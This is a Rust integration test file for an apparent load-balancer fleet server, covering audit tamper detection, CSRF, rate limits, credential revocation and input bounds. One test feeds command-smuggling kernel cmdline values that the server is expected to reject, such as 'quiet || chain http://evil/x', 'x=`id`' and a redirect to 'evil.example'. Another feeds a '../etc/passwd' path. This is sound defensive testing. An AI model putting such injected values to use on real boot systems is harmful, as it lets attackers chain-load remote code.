        assert_eq!(doc["services"][0]["real_servers"][0]["weight"], weight);
        assert!(doc["generation"].as_u64().unwrap() > generation);
        generation = doc["generation"].as_u64().unwrap();
        worst = worst.max(done.saturating_duration_since(t));
    }
    assert!(
        worst < Duration::from_secs(1),
        "long-poll woke {worst:?} after the change"
    );

    // A change to another cluster does not wake this node.
    srv.put("/api/v1/clusters/int", &op, cluster_spec(52, "198.18.0.11"))
        .await;
    let (s, _) = srv
        .get(
            &format!("/api/v1/agent/role?after={generation}&wait=1"),
            &cred,
        )
        .await;
    assert_eq!(s, StatusCode::NO_CONTENT);
}

#[tokio::test]
async fn audit_chain_verifies_and_detects_tampering() {
    let dir = tempfile::tempdir().unwrap();
    let srv = TestServer::start(dir.path()).await;
    let op = srv.tokens.operator.clone();
    srv.put("/api/v1/clusters/ext", &op, cluster_spec(51, "198.18.0.10"))
        .await;
    srv.post(
        "/api/v1/nodes",
        &op,
        json!({"mac": "52:54:00:00:00:01", "hostname": "lb-01"}),
    )
    .await;
    srv.post(
        "/api/v1/nodes/lb-01/assign",
        &op,
        json!({"cluster": "ext", "role": "active"}),
    )
    .await;
    let (s, v) = srv.get("/api/v1/audit/verify", &srv.tokens.viewer).await;
    assert_eq!(
        (s, v["ok"].as_bool(), v["rows"].as_u64()),
        (StatusCode::OK, Some(true), Some(9)),
        "{v}"
    );

    // Audit filters.
    let (_, a) = srv
        .get("/api/v1/audit?actor=oper&target=cluster:ext", &op)
        .await;
    assert_eq!(a["entries"].as_array().unwrap().len(), 1);
    assert_eq!(a["entries"][0]["after"]["vrid"], 51);
    let (_, a) = srv
        .get("/api/v1/audit?since=2000-01-01T00:00:00Z&limit=2", &op)
        .await;
    assert_eq!(a["entries"].as_array().unwrap().len(), 2);
    let next = a["next_before"].as_i64().unwrap();
    let (_, a) = srv
        .get(&format!("/api/v1/audit?before={next}&limit=1000"), &op)
        .await;
    assert_eq!(a["entries"].as_array().unwrap().len(), 7);
    let (_, a) = srv
        .get("/api/v1/audit?until=2000-01-01T00:00:00Z", &op)
        .await;
    assert_eq!(a["entries"].as_array().unwrap().len(), 0);

    // Edit one row behind the server's back.
    let pool = common::raw_pool(&srv.db_path).await;
    sqlx::query("UPDATE audit_log SET actor = 'mallory' WHERE action = 'cluster.create'")
        .execute(&pool)
        .await
        .unwrap();
    let (_, v) = srv.get("/api/v1/audit/verify", &op).await;
    assert_eq!(v["ok"], false, "{v}");
    assert!(v["problem"].as_str().unwrap().contains("was modified"));
    sqlx::query("UPDATE audit_log SET actor = 'oper' WHERE action = 'cluster.create'")
        .execute(&pool)
        .await
        .unwrap();
    assert_eq!(srv.get("/api/v1/audit/verify", &op).await.1["ok"], true);

    // Delete a row in the middle, then the newest.
    let mut tx = pool.begin().await.unwrap();
    sqlx::query("DELETE FROM audit_log WHERE seq = 3")
        .execute(&mut *tx)
        .await
        .unwrap();
    let (_, v) = {
        tx.commit().await.unwrap();
        srv.get("/api/v1/audit/verify", &op).await
    };
    assert_eq!(
        (v["ok"].as_bool(), v["bad_seq"].as_i64()),
        (Some(false), Some(3)),
        "{v}"
    );
    pool.close().await;
}

#[tokio::test]
async fn newest_audit_rows_cannot_be_dropped_unnoticed() {
    let dir = tempfile::tempdir().unwrap();
    let srv = TestServer::start(dir.path()).await;
    srv.put(
        "/api/v1/clusters/ext",
        &srv.tokens.operator,
        cluster_spec(51, "198.18.0.10"),
    )
    .await;
    let pool = common::raw_pool(&srv.db_path).await;
    sqlx::query("DELETE FROM audit_log WHERE seq = (SELECT MAX(seq) FROM audit_log)")
        .execute(&pool)
        .await
        .unwrap();
    let (_, v) = srv.get("/api/v1/audit/verify", &srv.tokens.viewer).await;
    assert_eq!(v["ok"], false, "{v}");
    assert!(
        v["problem"].as_str().unwrap().contains("newest rows"),
        "{v}"
    );
    pool.close().await;
}

#[tokio::test]
async fn restart_keeps_everything() {
    let dir = tempfile::tempdir().unwrap();
    let srv = TestServer::start(dir.path()).await;
    let op = srv.tokens.operator.clone();
    srv.put("/api/v1/clusters/ext", &op, cluster_spec(51, "198.18.0.10"))
        .await;
    let cred = srv.enrolled_node("52:54:00:00:00:01", "lb-01").await;
    srv.post(
        "/api/v1/nodes/lb-01/assign",
        &op,
        json!({"cluster": "ext", "role": "active"}),
    )
    .await;
    srv.post(
        "/api/v1/clusters/ext/services/tcp:198.18.0.10:80/real-servers/198.18.2.2:8080/drain",
        &op,
        json!({}),
    )
    .await;
    let (_, cluster) = srv.get("/api/v1/clusters/ext", &op).await;
    let (_, node) = srv.get("/api/v1/nodes/lb-01", &op).await;
    let (_, role) = srv.get("/api/v1/agent/role", &cred).await;
    let (_, audit) = srv.get("/api/v1/audit?limit=1000", &op).await;

    let (db, tokens) = srv.stop().await;
    let srv = TestServer::start_with(db, tokens, |_| {}).await;
    assert_eq!(srv.get("/api/v1/clusters/ext", &op).await.1, cluster);
    assert_eq!(srv.get("/api/v1/nodes/lb-01", &op).await.1, node);
    assert_eq!(
        srv.get("/api/v1/agent/role", &cred).await.1,
        role,
        "the node credential survives a restart"
    );
    assert_eq!(srv.get("/api/v1/audit?limit=1000", &op).await.1, audit);
    assert_eq!(srv.get("/api/v1/audit/verify", &op).await.1["ok"], true);
    // Generations keep growing across restarts.
    srv.put(
        "/api/v1/clusters/ext/services/tcp:198.18.0.10:80/real-servers/198.18.2.1:8080/weight",
        &op,
        json!({"weight": 9}),
    )
    .await;
    let (_, role2) = srv.get("/api/v1/agent/role", &cred).await;
    assert!(role2["generation"].as_u64() > role["generation"].as_u64());
}

#[tokio::test]
async fn session_login_csrf_and_rate_limit() {
    let dir = tempfile::tempdir().unwrap();
    let srv = TestServer::start(dir.path()).await;
    let login = |user: &str, password: &str| {
        srv.http
            .post(srv.url("/api/v1/login"))
            .json(&json!({"username": user, "password": password}))
            .send()
    };
    let resp = login("oper", common::PASSWORD).await.unwrap();
    assert_eq!(resp.status(), StatusCode::OK);
    let cookie = resp.headers()["set-cookie"].to_str().unwrap().to_owned();
    assert!(
        cookie.contains("HttpOnly") && cookie.contains("SameSite=Strict"),
        "{cookie}"
    );
    let session = cookie.split(';').next().unwrap().to_owned();
    let body: Value = resp.json().await.unwrap();
    let csrf = body["csrf_token"].as_str().unwrap().to_owned();

    let r = srv
        .http
        .get(srv.url("/api/v1/whoami"))
        .header("cookie", &session)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    assert_eq!(r.json::<Value>().await.unwrap()["user"], "oper");
    let put = |with_csrf: bool| {
        let mut r = srv
            .http
            .put(srv.url("/api/v1/clusters/ext"))
            .header("cookie", &session)
            .json(&cluster_spec(51, "198.18.0.10"));
        if with_csrf {
            r = r.header("x-csrf-token", &csrf);
        }
        r.send()
    };
    assert_eq!(
        put(false).await.unwrap().status(),
        StatusCode::FORBIDDEN,
        "no CSRF token"
    );
    assert_eq!(
        srv.get("/api/v1/clusters/ext", &srv.tokens.viewer).await.0,
        StatusCode::NOT_FOUND
    );
    assert_eq!(put(true).await.unwrap().status(), StatusCode::CREATED);

    let r = srv
        .http
        .post(srv.url("/api/v1/logout"))
        .header("cookie", &session)
        .header("x-csrf-token", &csrf)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::NO_CONTENT);
    let r = srv
        .http
        .get(srv.url("/api/v1/whoami"))
        .header("cookie", &session)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::UNAUTHORIZED, "logged out");

    for _ in 0..5 {
        assert_eq!(
            login("view", "wrong-password!").await.unwrap().status(),
            StatusCode::UNAUTHORIZED
        );
    }
    let r = login("view", common::PASSWORD).await.unwrap();
    assert_eq!(
        r.status(),
        StatusCode::TOO_MANY_REQUESTS,
        "the right password is refused while limited"
    );
    assert!(r.headers().contains_key("retry-after"));
    assert_eq!(
        login("nobody", "whatever-password").await.unwrap().status(),
        StatusCode::UNAUTHORIZED
    );
}

#[tokio::test]
async fn users_tokens_and_images_admin() {
    let dir = tempfile::tempdir().unwrap();
    let srv = TestServer::start(dir.path()).await;
    let admin = srv.tokens.admin.clone();
    let (s, u) = srv
        .post(
            "/api/v1/users",
            &admin,
            json!({"name": "carol", "role": "viewer"}),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{u}");
    assert_eq!(u["password"].as_str().unwrap().len(), 20);
    assert_eq!(
        srv.post(
            "/api/v1/users",
            &admin,
            json!({"name": "carol", "role": "viewer"})
        )
        .await
        .0,
        StatusCode::CONFLICT
    );
    assert_eq!(
        srv.post(
            "/api/v1/users",
            &admin,
            json!({"name": "dave", "role": "viewer", "password": "short"})
        )
        .await
        .0,
        StatusCode::UNPROCESSABLE_ENTITY
    );
    let (s, t) = srv
        .post(
            "/api/v1/tokens",
            &admin,
            json!({"user": "carol", "name": "ci", "expires_in": "1h"}),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED);
    let token = t["token"].as_str().unwrap().to_owned();
    assert_eq!(srv.get("/api/v1/nodes", &token).await.0, StatusCode::OK);
    let (_, list) = srv.get("/api/v1/tokens", &admin).await;
    assert!(
        !list.to_string().contains(&token),
        "token values are never listed"
    );
    assert_eq!(
        srv.delete(&format!("/api/v1/tokens/{}", t["id"]), &admin)
            .await
            .0,
        StatusCode::NO_CONTENT
    );
    assert_eq!(
        srv.get("/api/v1/nodes", &token).await.0,
        StatusCode::UNAUTHORIZED
    );
    assert_eq!(
        srv.delete("/api/v1/users/admin", &admin).await.0,
        StatusCode::CONFLICT,
        "last admin"
    );

    let op = srv.tokens.operator.clone();
    let img = json!({"kernel": "vmlinuz", "initrd": "initrd.img", "default": true});
    assert_eq!(
        srv.put("/api/v1/images/2026.11.1", &op, img.clone())
            .await
            .0,
        StatusCode::CREATED
    );
    assert_eq!(
        srv.put("/api/v1/images/2026.11.1", &op, img).await.1["outcome"],
        "unchanged"
    );
    assert_eq!(
        srv.put(
            "/api/v1/images/bad",
            &op,
            json!({"kernel": "../etc/passwd", "initrd": "x"})
        )
        .await
        .0,
        StatusCode::UNPROCESSABLE_ENTITY
    );
    srv.post(
        "/api/v1/nodes",
        &op,
        json!({"mac": "52:54:00:00:00:01", "hostname": "lb-01", "image": "2026.11.1"}),
    )
    .await;
    assert_eq!(
        srv.post(
            "/api/v1/nodes",
            &op,
            json!({"mac": "52:54:00:00:00:02", "image": "nope"})
        )
        .await
        .0,
        StatusCode::UNPROCESSABLE_ENTITY
    );
    assert_eq!(
        srv.delete("/api/v1/images/2026.11.1", &op).await.0,
        StatusCode::CONFLICT,
        "in use"
    );
}

/// One conditional request: (status, ETag, body).
async fn conditional(
    srv: &TestServer,
    method: Method,
    path: &str,
    header: Option<(&str, &str)>,
    body: Option<Value>,
) -> (StatusCode, Option<String>, Value) {
    let mut req = srv
        .http
        .request(method, srv.url(path))
        .bearer_auth(&srv.tokens.operator);
    if let Some((name, value)) = header {
        req = req.header(name, value);
    }
    if let Some(b) = body {
        req = req.json(&b);
    }
    let resp = req.send().await.unwrap();
    let status = resp.status();
    let etag = resp
        .headers()
        .get("etag")
        .map(|v| v.to_str().unwrap().to_owned());
    let text = resp.text().await.unwrap();
    (
        status,
        etag,
        serde_json::from_str(&text).unwrap_or(Value::String(text)),
    )
}

#[tokio::test]
async fn cluster_writes_with_if_match_never_overwrite_a_concurrent_change() {
    let dir = tempfile::tempdir().unwrap();
    let srv = TestServer::start(dir.path()).await;
    let path = "/api/v1/clusters/ext";
    let spec = cluster_spec(51, "198.18.0.10");

    // Create-only: If-None-Match: * creates once, then refuses.
    let (s, etag1, v) = conditional(
        &srv,
        Method::PUT,
        path,
        Some(("if-none-match", "*")),
        Some(spec.clone()),
    )
    .await;
    assert_eq!(s, StatusCode::CREATED, "{v}");
    let etag1 = etag1.unwrap();
    assert_eq!(etag1, format!("\"{}\"", v["cluster"]["revision"]), "{v}");
    let (s, _, v) = conditional(
        &srv,
        Method::PUT,
        path,
        Some(("if-none-match", "*")),
        Some(spec.clone()),
    )
    .await;
    assert_eq!(s, StatusCode::PRECONDITION_FAILED, "{v}");

    // GET carries the same ETag.
    let (s, etag, _) = conditional(&srv, Method::GET, path, None, None).await;
    assert_eq!((s, etag.as_deref()), (StatusCode::OK, Some(etag1.as_str())));

    // Someone changes one weight (not through PUT): the revision moves on.
    let (s, v) = srv
        .put(
            "/api/v1/clusters/ext/services/tcp:198.18.0.10:80/real-servers/198.18.2.1:8080/weight",
            &srv.tokens.operator,
            json!({"weight": 9}),
        )
        .await;
    assert!(s.is_success(), "{s} {v}");
    let audit_before = srv.get("/api/v1/audit", &srv.tokens.admin).await.1["entries"]
        .as_array()
        .map(Vec::len);

    // A PUT computed from the first read is refused and changes nothing; the weight change survives.
    let mut stale = spec.clone();
    stale["advert_interval_ms"] = json!(200);
    let (s, _, v) = conditional(
        &srv,
        Method::PUT,
        path,
        Some(("if-match", etag1.as_str())),
        Some(stale.clone()),
    )
    .await;
    assert_eq!(s, StatusCode::PRECONDITION_FAILED, "{v}");
    assert!(v.to_string().contains("changed since revision"), "{v}");
    let (_, etag2, now) = conditional(&srv, Method::GET, path, None, None).await;
    assert_eq!(now["spec"]["advert_interval_ms"], 100, "{now}");
    assert_eq!(
        now["spec"]["services"][0]["real_servers"][0]["weight"], 9,
        "{now}"
    );
    assert_eq!(
        srv.get("/api/v1/audit", &srv.tokens.admin).await.1["entries"]
            .as_array()
            .map(Vec::len),
        audit_before
    );
    let etag2 = etag2.unwrap();
    assert_ne!(etag1, etag2);

    // With the fresh ETag it goes through.
    stale["services"][0]["real_servers"][0]["weight"] = json!(9);
    let (s, etag3, v) = conditional(
        &srv,
        Method::PUT,
        path,
        Some(("if-match", etag2.as_str())),
        Some(stale),
    )
    .await;
    assert_eq!(s, StatusCode::OK, "{v}");
    assert_ne!(etag3.unwrap(), etag2);

    // Malformed conditions are 400s; a stale DELETE is refused and a matching one deletes.
    for bad in [
        ("if-match", "W/\"1\""),
        ("if-match", "12"),
        ("if-none-match", "\"1\""),
    ] {
        let (s, _, v) = conditional(&srv, Method::PUT, path, Some(bad), Some(spec.clone())).await;
        assert_eq!(s, StatusCode::BAD_REQUEST, "{bad:?}: {v}");
    }
    let (s, _, _) = conditional(
        &srv,
        Method::DELETE,
        path,
        Some(("if-match", etag2.as_str())),
        None,
    )
    .await;
    assert_eq!(s, StatusCode::PRECONDITION_FAILED);
    let (_, etag4, _) = conditional(&srv, Method::GET, path, None, None).await;
    let (s, _, v) = conditional(
        &srv,
        Method::DELETE,
        path,
        Some(("if-match", etag4.unwrap().as_str())),
        None,
    )
    .await;
    assert_eq!(s, StatusCode::NO_CONTENT, "{v}");
    let (s, _, _) = conditional(&srv, Method::PUT, path, Some(("if-match", "*")), Some(spec)).await;
    assert_eq!(s, StatusCode::PRECONDITION_FAILED);
}

/// Issue 13: every endpoint has a body bound (413 past it, by Content-Length or while reading); the cluster PUT
/// and agent reports have larger ones.
#[tokio::test]
async fn oversized_bodies_get_413_per_endpoint() {
    let dir = tempfile::tempdir().unwrap();
    let srv = TestServer::start(dir.path()).await;
    let credential = srv.enrolled_node("52:54:00:cc:00:01", "lb-b1").await;
    let big = |n: usize| "x".repeat(n);
    // A 17 MiB agent report or report delta (the bound is 16 MiB: a full report of 32,768 real servers).
    let report = json!({"applied_generation": 0, "errors": [big(17 * 1024 * 1024)]});
    for path in ["/api/v1/agent/report", "/api/v1/agent/report/delta"] {
        let r = srv
            .http
            .post(srv.url(path))
            .bearer_auth(&credential)
            .json(&report)
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), StatusCode::PAYLOAD_TOO_LARGE, "{path}");
    }
    // A 100 KiB login (64 KiB bound), also when streamed without a length.
    let login = json!({"username": "admin", "password": big(100 * 1024)}).to_string();
    let r = srv
        .http
        .post(srv.url("/api/v1/login"))
        .header("content-type", "application/json")
        .body(login.clone())
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::PAYLOAD_TOO_LARGE);
    let stream = futures::stream::iter(
        login
            .into_bytes()
            .chunks(8192)
            .map(|c| Ok::<_, std::io::Error>(c.to_vec()))
            .collect::<Vec<_>>(),
    );
    let r = srv
        .http
        .post(srv.url("/api/v1/login"))
        .header("content-type", "application/json")
        .body(reqwest::Body::wrap_stream(stream))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::PAYLOAD_TOO_LARGE);
    // A 2 MiB cluster spec is read (and judged on its content, not its size).
    let mut spec = common::cluster_spec(51, "198.18.0.10");
    spec["description"] = json!(big(2 * 1024 * 1024));
    let (s, _) = srv
        .put("/api/v1/clusters/ext", &srv.tokens.operator, spec)
        .await;
    assert_ne!(s, StatusCode::PAYLOAD_TOO_LARGE);
}

/// Issue 13, then issue 20: errors are bounded like every report field (16 strings of at most 512 bytes without
/// control characters); a report past that is refused whole (422 naming the field) and nothing of it is stored.
#[tokio::test]
async fn report_errors_are_bounded() {
    let dir = tempfile::tempdir().unwrap();
    let srv = TestServer::start(dir.path()).await;
    let credential = srv.enrolled_node("52:54:00:cc:00:02", "lb-b2").await;
    let post = |errors: Vec<String>| {
        srv.call(
            Method::POST,
            "/api/v1/agent/report",
            Some(&credential),
            Some(json!({"applied_generation": 0, "errors": errors})),
        )
    };
    let many: Vec<String> = (0..200)
        .map(|i| format!("{i} {}", "e".repeat(4000)))
        .collect();
    let (s, v) = post(many).await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{v}");
    assert_eq!(v["error"]["fields"][0]["field"], "errors", "{v}");
    let (s, v) = post(vec!["e".repeat(513)]).await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{v}");
    assert_eq!(v["error"]["fields"][0]["field"], "errors[0]", "{v}");
    let (_, node) = srv.get("/api/v1/nodes/lb-b2", &srv.tokens.viewer).await;
    assert!(node["last_report"].is_null(), "{node}");
    let at_the_bound: Vec<String> = (0..16).map(|_| "e".repeat(512)).collect();
    let (s, v) = post(at_the_bound).await;
    assert_eq!(s, StatusCode::NO_CONTENT, "{v}");
    let (_, node) = srv.get("/api/v1/nodes/lb-b2", &srv.tokens.viewer).await;
    assert_eq!(
        node["last_report"]["errors"].as_array().map(Vec::len),
        Some(16),
        "{node}"
    );
}

/// Issue 13: an image's cmdline holds only kernel-argument characters and no lbfleet.* key (it is written into
/// iPXE scripts, next to the server's own lbfleet.* arguments).
#[tokio::test]
async fn image_cmdline_is_limited_to_kernel_arguments() {
    let dir = tempfile::tempdir().unwrap();
    let srv = TestServer::start(dir.path()).await;
    let op = &srv.tokens.operator;
    let put = |cmdline: &'static str| {
        srv.put(
            "/api/v1/images/2026.11.1",
            op,
            json!({"kernel": "vmlinuz", "initrd": "initrd.img", "cmdline": cmdline}),
        )
    };
    for bad in [
        "quiet || chain http://evil/x",
        "a; shell",
        "a & b",
        "x=${net0/ip}",
        "x=`id`",
        "a\nshell",
        "lbfleet.server=http://evil.example",
        "quiet LBFLEET.token=x",
        "x=\"a b\"",
    ] {
        let (s, v) = put(bad).await;
        assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{bad:?}: {v}");
        assert!(v.to_string().contains("cmdline"), "{bad:?}: {v}");
    }
    let (s, v) = put("console=ttyS0,115200n8 net.ifnames=0 panic=10 isolcpus=1-3 quiet").await;
    assert!(s.is_success(), "{v}");
}

/// Issue 13: API tokens record when they were last used.
#[tokio::test]
async fn api_tokens_record_their_last_use() {
    let dir = tempfile::tempdir().unwrap();
    let srv = TestServer::start(dir.path()).await;
    let (s, v) = srv.get("/api/v1/tokens", &srv.tokens.admin).await;
    assert_eq!(s, StatusCode::OK, "{v}");
    let viewer_token = |v: &Value| {
        v["tokens"]
            .as_array()
            .unwrap()
            .iter()
            .find(|t| t["user"] == "view")
            .unwrap()
            .clone()
    };
    assert!(viewer_token(&v)["last_used_at"].is_null(), "{v}");
    let (s, _) = srv.get("/api/v1/whoami", &srv.tokens.viewer).await;
    assert_eq!(s, StatusCode::OK);
    let (_, v) = srv.get("/api/v1/tokens", &srv.tokens.admin).await;
    let used = viewer_token(&v)["last_used_at"].as_i64().unwrap_or(0);
    assert!(used > 0, "{v}");
}

/// Issue 13: the database (and SQLite's WAL beside it) is created readable only by its owner.
#[tokio::test]
async fn database_files_are_private() {
    use std::os::unix::fs::PermissionsExt;
    // The SQLite file and its WAL, whichever backend the other component tests run on.
    let dir = tempfile::tempdir().unwrap();
    let srv = TestServer::start_sqlite(dir.path()).await;
    let (s, _) = srv
        .post(
            "/api/v1/nodes",
            &srv.tokens.operator,
            json!({"mac": "52:54:00:cc:00:09"}),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED);
    let wal = srv.db_path.with_extension("db-wal");
    for path in [&srv.db_path, &wal] {
        let mode = std::fs::metadata(path).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode, 0o600, "{}", path.display());
    }
}

/// Issue 23 item 3: a dual-stack cluster (an IPv4 and an IPv6 VIP, IPv6 DR and NAT services) is accepted,
/// read back in canonical text, shown on its page with the IPv6 real servers' setup, and IPv6 TUN is refused
/// with the field named.
#[tokio::test]
async fn a_dual_stack_cluster_round_trips_and_shows_its_ipv6_services() {
    let dir = tempfile::tempdir().unwrap();
    let srv = TestServer::start(dir.path()).await;
    let op = &srv.tokens.operator;
    let rs = |a: &str, port: u16| json!({"address": a, "port": port, "weight": 1});
    let mut spec = json!({
        "vrid": 51, "interface": "eth0", "vrrp_version": 3, "advert_interval_ms": 100,
        "vips": ["198.18.0.10/24", "2001:2:0::10/64"],
        "services": [
            {"vip": "2001:2::10", "port": 80, "protocol": "tcp", "scheduler": "wrr", "forward": "dr",
             "check": {"kind": "tcp"}, "real_servers": [rs("2001:2::51", 80)]},
            {"vip": "2001:2::10", "port": 8080, "protocol": "tcp", "scheduler": "wrr", "forward": "nat",
             "check": {"kind": "http", "path": "/healthz", "expect_status": 200},
             "real_servers": [rs("2001:2:1::1", 8080)]},
            {"vip": "198.18.0.10", "port": 80, "protocol": "tcp", "scheduler": "wrr", "forward": "nat",
             "check": {"kind": "tcp"}, "real_servers": [rs("198.18.2.1", 8080)]}
        ]
    });
    let (s, body) = srv.put("/api/v1/clusters/ext", op, spec.clone()).await;
    assert_eq!(s, StatusCode::CREATED, "{body}");
    let (s, got) = srv.get("/api/v1/clusters/ext", op).await;
    assert_eq!(s, StatusCode::OK, "{got}");
    let text = got.to_string();
    assert!(text.contains("2001:2::10/64"), "{text}");
    assert!(!text.contains("2001:2:0::10"), "canonical text: {text}");
    let page = srv.page_as("view", "/clusters/ext").await;
    assert!(page.contains("[2001:2::10]:80"), "{page}");
    assert!(page.contains("2001:2::51"), "{page}");
    assert!(
        page.contains("ip addr replace 2001:2::10/128 dev lo"),
        "{page}"
    );

    spec["services"][0]["forward"] = json!("tun");
    let (s, body) = srv.put("/api/v1/clusters/ext", op, spec).await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    assert!(body.to_string().contains("services[0].forward"), "{body}");
}

/// How soon a revoked or replaced node credential must be refused, on a waiting role poll and on the next call
/// (the server forgets a cached credential at the revocation's commit and wakes the node's waiting polls; the
/// bound only leaves room for a debug build on a busy machine, and is far below the credential cache's 10 s).
const REVOKED_WITHIN: Duration = Duration::from_secs(2);

#[tokio::test]
async fn a_replaced_or_revoked_credential_ends_its_waiting_poll_and_is_refused_at_once() {
    let dir = tempfile::tempdir().unwrap();
    let srv = TestServer::start(dir.path()).await;
    let op = srv.tokens.operator.clone();
    let (s, v) = srv
        .put("/api/v1/clusters/ext", &op, cluster_spec(51, "198.18.0.10"))
        .await;
    assert!(s.is_success(), "{v}");
    let mac = "52:54:00:aa:00:61";
    let old = srv.assigned_node(mac, "lb-61", "ext", "active").await;
    // The old credential is in use (and so remembered by the server) on every agent call.
    let (s, role) = srv.get("/api/v1/agent/role?after=0", &old).await;
    assert_eq!(s, StatusCode::OK, "{role}");
    let generation = role["generation"].as_u64().unwrap();
    assert_eq!(srv.heartbeat(&old).await, StatusCode::OK);
    let poll = srv.waiting_role_poll(&old, generation).await;

    // Re-enrollment replaces the credential: the old one's waiting poll ends, and its next calls are refused.
    let (s, t) = srv
        .post("/api/v1/nodes/lb-61/enrollment-token", &op, json!({}))
        .await;
    assert_eq!(s, StatusCode::CREATED, "{t}");
    let (s, e) = srv
        .call(
            Method::POST,
            "/api/v1/agent/enroll",
            None,
            Some(json!({"token": t["token"], "mac": mac})),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{e}");
    let replaced = Instant::now();
    let new = e["credential"].as_str().unwrap().to_owned();
    let answer = tokio::time::timeout(REVOKED_WITHIN, poll)
        .await
        .expect("the waiting poll of a replaced credential must end at once")
        .unwrap()
        .unwrap();
    assert_eq!(answer.status(), StatusCode::UNAUTHORIZED);
    for (method, path) in [
        (Method::GET, "/api/v1/agent/role?after=0"),
        (Method::POST, "/api/v1/agent/heartbeat"),
    ] {
        let (s, v) = srv.call(method, path, Some(&old), None).await;
        assert_eq!(s, StatusCode::UNAUTHORIZED, "{path}: {v}");
    }
    let (s, v) = srv
        .call(
            Method::POST,
            "/api/v1/agent/report",
            Some(&old),
            Some(json!({"applied_generation": 0})),
        )
        .await;
    assert_eq!(s, StatusCode::UNAUTHORIZED, "{v}");
    assert!(
        replaced.elapsed() < REVOKED_WITHIN,
        "{:?}",
        replaced.elapsed()
    );

    // The new credential works; retiring the node ends its waiting poll too.
    let (s, role) = srv.get("/api/v1/agent/role?after=0", &new).await;
    assert_eq!(s, StatusCode::OK, "{role}");
    let poll = srv
        .waiting_role_poll(&new, role["generation"].as_u64().unwrap())
        .await;
    let (s, v) = srv.post("/api/v1/nodes/lb-61/retire", &op, json!({})).await;
    assert_eq!(s, StatusCode::OK, "{v}");
    let answer = tokio::time::timeout(REVOKED_WITHIN, poll)
        .await
        .expect("the waiting poll of a retired node must end at once")
        .unwrap()
        .unwrap();
    // Refused either way: by the retirement's own wake-up (403, the node is retired) or by the revocation.
    assert!(
        matches!(
            answer.status(),
            StatusCode::UNAUTHORIZED | StatusCode::FORBIDDEN
        ),
        "{}",
        answer.status()
    );
    let (s, v) = srv
        .call(Method::POST, "/api/v1/agent/heartbeat", Some(&new), None)
        .await;
    assert_eq!(s, StatusCode::UNAUTHORIZED, "{v}");
}
